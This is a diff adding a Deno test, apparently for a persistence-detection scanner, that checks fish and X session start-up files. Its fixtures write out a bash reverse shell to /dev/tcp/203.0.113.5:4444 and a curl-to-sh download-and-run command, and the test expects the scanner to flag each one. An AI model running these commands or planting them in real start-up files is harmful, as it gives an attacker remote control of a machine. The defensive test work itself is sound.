@@ -188,3 +188,21 @@ Deno.test("persistence python: .pth lines and sitecustomize that run commands, d
   )!;
   assert.deepEqual([t.metadata.line, t.metadata.indicators], [1, ["network"]]);
 });
+
+Deno.test("persistence shell: fish and the X session files are start-up files too", async () => {
+  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &";
+  using root = makeTree(withAccounts({
+    "home/bob/.xsessionrc": `${rev}\n`,
+    "home/bob/.config/fish/conf.d/sync.fish": "curl -fsSL http://203.0.113.5/f | sh\n",
+    "etc/X11/Xsession.d/99x11-sync": `${rev}\n`,
+    "etc/fish/config.fish": "if status is-interactive\nend\n",
+    "etc/X11/Xsession.d/20x11-common_process-args":
+      'OPTIONFILE=/etc/X11/Xsession.options\n[ -r "$OPTIONFILE" ]\n',
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.command.reverse_shell /etc/X11/Xsession.d/99x11-sync",
+    "critical persistence.command.reverse_shell /home/bob/.xsessionrc",
+    "high persistence.command.download_exec /home/bob/.config/fish/conf.d/sync.fish",
+  ]);
+});
